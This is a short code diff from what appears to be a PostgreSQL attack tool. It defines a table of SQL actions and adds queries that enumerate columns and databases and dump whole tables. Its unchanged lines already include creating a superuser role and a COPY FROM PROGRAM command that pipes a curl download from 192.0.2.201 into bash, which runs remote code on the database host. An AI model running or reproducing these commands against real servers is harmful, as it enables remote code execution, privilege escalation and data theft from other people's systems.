@@ -15,6 +15,8 @@ ACTS: dict[str, str] = {
     "superuser": "CREATE ROLE {} WITH LOGIN SUPERUSER CREATEDB CREATEROLE", "scratch": "CREATE TABLE {} (line text)",
     "demote": "ALTER ROLE {} NOSUPERUSER", "drop": "DROP TABLE {}", "version": "SELECT version()",
     "program": "COPY {} FROM PROGRAM 'id; uname -a; curl -s http://192.0.2.201/a | bash'",
+    "count": "SELECT count(*) FROM {}", "columns": "SELECT column_name FROM information_schema.columns",
+    "all": "SELECT * FROM {}", "databases": "SELECT datname FROM pg_database",
     "roles": "SELECT rolname, rolsuper FROM pg_roles",
 }  # fmt: skip
 
